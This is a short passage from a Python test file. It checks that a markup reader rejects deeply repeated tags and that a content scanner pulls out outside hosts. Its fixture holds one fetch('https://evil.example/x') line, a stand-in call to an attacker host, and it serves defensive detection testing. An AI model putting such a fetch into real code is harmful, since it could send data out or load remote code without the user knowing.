    with pytest.raises(TooComplex):
        read_markup((tag * 2_000).decode(), ActiveFindings())
    assert added_content(
        "a.md", tag * 2_000 + b"\nfetch('https://evil.example/x')", bytes
    ).hosts == ("evil.example",)
